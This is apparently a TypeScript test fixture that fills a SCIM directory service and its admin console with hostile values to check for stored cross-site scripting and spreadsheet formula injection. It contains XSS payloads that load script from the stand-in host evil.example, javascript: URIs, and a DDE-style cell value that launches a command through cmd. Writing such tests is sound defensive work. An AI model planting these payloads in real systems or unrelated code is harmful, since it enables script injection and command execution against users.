// Hostile values for browsers and spreadsheets, and a directory full of them.

import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { askConsole, openDirectory } from './console.ts';
import { ask, type Connection } from './scim.ts';

/** The class of every element that a value would make, and the host that it would ask. */
export const mark = 'stored';
export const foreignHost = 'evil.example';

/** At most 100 characters each, so that they fit everywhere; no blanks at their ends, which names lose. */
export const hostileTexts = [
  `javascript:alert(1)//"><script class=${mark} src=//${foreignHost}></script>`,
  `data:text/html,<img class=${mark} src=//${foreignHost}/x onerror=alert(1)>`,
  `</textarea></title><svg class=${mark} onload=alert(1)><iframe class=${mark}>`,
  `' autofocus onfocus='alert(1)' class='${mark}' style='background:url(//${foreignHost})`,
  `&lt;img class=${mark} src=x onerror=alert(1)&gt;&#60;b class=${mark}&#62;`,
  `\u2067\u202E<b class=${mark}>gpj.exe</b> *bold* {0} {name} \${alert(1)} {{alert(1)}}`,
  'W'.repeat(100),
] as const;

/** It is on every page of the directory, and so is none of the values that a page is searched for. */
export const directoryName = `<b class=${mark} onmouseover=alert(1)>Contoso</b>`;

/** What a spreadsheet would calculate, at the beginning of a cell. */
export const formulas = [
  `=HYPERLINK("https://${foreignHost}";"x")`,
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1',
  '\r\n=1',
  '  =1',
  '＝1',
  'x",=1,"\r\n=2;=3',
] as const;

export interface Furnished {
  readonly id: string;
  readonly connection: Connection;
  /** The person whose every text is the hostile text at the same place. */
  readonly people: readonly string[];
  readonly groups: readonly string[];
  /** People like those above, who were deleted. */
  readonly deleted: readonly string[];
  /** Lets a guest in. */
  readonly setupLink: string;
}

const user = 'urn:ietf:params:scim:schemas:core:2.0:User';
const group = 'urn:ietf:params:scim:schemas:core:2.0:Group';
const patchOp = 'urn:ietf:params:scim:api:messages:2.0:PatchOp';

/** Puts the hostile texts wherever a client or an administrator may write one. */
export async function furnish(page: Page, url: string): Promise<Furnished> {
  const [first] = hostileTexts;
  const { id, connection } = await openDirectory(page, url, directoryName);
  const fill = await readFiller(connection);
  const people: string[] = [];
  const groups: string[] = [];
  const deleted: string[] = [];
  for (const text of hostileTexts) {
    deleted.push(await createDeleted(connection, fill(text)));
    people.push(await create(connection, '/Users', fill(text)));
    const members = people.map((value) => ({ value, display: text }));
    groups.push(
      await create(connection, '/Groups', { schemas: [group], displayName: text, externalId: text, members }),
    );
  }
  for (const text of formulas) await create(connection, '/Users', fill(text));
  for (const text of hostileTexts) await change(connection, people[0] ?? '', text);
  await change(connection, people[0] ?? '', first);
  for (const text of hostileTexts) await fail(connection, text);
  const setupLink = await nameThings(page, url, id);
  return { id, connection, people, groups, deleted, setupLink };
}

interface Described {
  readonly name: string;
  readonly type: string;
  readonly multiValued: boolean;
  readonly mutability: string;
  readonly subAttributes?: readonly Described[];
}

/** A person whose every attribute that takes text holds this one, by the schemas that the server itself gives. */
async function readFiller(connection: Connection): Promise<(text: string) => object> {
  const answer = (await (await ask(connection, 'GET', '/Schemas')).json()) as {
    readonly Resources: readonly { readonly id: string; readonly attributes: readonly Described[] }[];
  };
  const schemas = answer.Resources.filter(({ id }) => id.endsWith(':User'));
  const core = schemas.find(({ id }) => id === user)?.attributes ?? assert.fail('no User schema');
  const others = schemas.filter(({ id }) => id !== user);
  return (text) => ({
    schemas: schemas.map(({ id }) => id),
    ...fillAll(core, text),
    ...Object.fromEntries(others.map(({ id, attributes }) => [id, fillAll(attributes, text)])),
  });
}

function fillAll(attributes: readonly Described[], text: string): object {
  const writable = attributes.filter(({ mutability }) => mutability === 'readWrite');
  return Object.fromEntries(writable.flatMap((each) => fillOne(each, text)));
}

function fillOne(attribute: Described, text: string): readonly (readonly [string, unknown])[] {
  const { name, type, multiValued, subAttributes = [] } = attribute;
  if (type === 'complex') {
    const value = fillAll(subAttributes, text);
    return [[name, multiValued ? [value] : value]];
  }
  if (type === 'reference') return [[name, referenceOf(text)]];
  return type === 'string' ? [[name, text]] : [];
}

/** A reference has to be a URI: one that would run a script, if it became a link. */
function referenceOf(text: string): string {
  return `javascript:alert(1)//${encodeURIComponent(text)}`;
}

async function create(connection: Connection, path: string, body: object): Promise<string> {
  const response = await ask(connection, 'POST', path, body);
  const answer = (await response.json()) as { readonly id?: string };
  return answer.id ?? assert.fail(`POST ${path} was answered ${JSON.stringify(answer)}`);
}

/** What is unique in it can be used again. */
async function createDeleted(connection: Connection, body: object): Promise<string> {
  const id = await create(connection, '/Users', body);
  const { status } = await ask(connection, 'DELETE', `/Users/${id}`);
  assert.equal(status, 204);
  return id;
}

async function change(connection: Connection, id: string, value: string): Promise<void> {
  const Operations = ['displayName', 'title', 'emails[type eq "work"].value'].map((path) => ({
    op: 'Replace',
    path,
    value,
  }));
  const response = await ask(connection, 'PATCH', `/Users/${id}`, { schemas: [patchOp], Operations });
  assert.equal(response.status, 200);
}

/** Requests that are refused, each with the text where the answer or the log may repeat it. */
async function fail(connection: Connection, text: string): Promise<void> {
  const patch = { schemas: [patchOp], Operations: [{ op: text, path: text, value: { [text]: text } }] };
  const escaped = encodeURIComponent(text);
  const answers = await Promise.all([
    ask(connection, 'POST', '/Users', { schemas: [user], userName: text, displayName: text }),
    ask(connection, 'POST', '/Users', { schemas: [text], userName: text, [text]: text }),
    ask(connection, 'POST', '/Users', { schemas: [user], userName: `${text}!`, displayName: `${text}\u0000` }),
    ask(connection, 'POST', '/Users', { schemas: [user], userName: `${text}?`, displayName: { [text]: text } }),
    ask(connection, 'PATCH', `/Users/${escaped}`, patch),
    ask(connection, 'GET', `/Users?filter=${escaped}`),
    ask(connection, 'GET', `/${escaped}?attributes=${escaped}`),
  ]);
  for (const { status, url } of answers) assert.ok(status >= 400 && status < 500, `${url}: ${String(status)}`);
}

/** Names that administrators give: of directories, tokens, setup links, and of one another. Gives the address of one setup link. */
async function nameThings(page: Page, url: string, id: string): Promise<string> {
  const post = (path: string, body: object) => askConsole(page, url, 'POST', path, body);
  const names = [...hostileTexts, ...formulas].filter((text) => !/\p{Cc}/u.test(text));
  for (const name of names) {
    const other = await post('/directories', { name, licenseReference: name });
    await post(`/directories/${String(other['id'])}/tokens`, { name });
    await post('/administrators', { email: addressOf(name), role: 'auditor' });
  }
  await post(`/directories/${id}/tokens`, { name: hostileTexts[0] });
  const links = [];
  for (const name of hostileTexts) links.push(await post(`/directories/${id}/setup-links`, { name }));
  return String(links[0]?.['address']);
}

/** An address has no blanks, and is written small. */
export function addressOf(text: string): string {
  return `${text.replaceAll(/[\s@]+/g, '/')}@${foreignHost}`.toLowerCase();
}
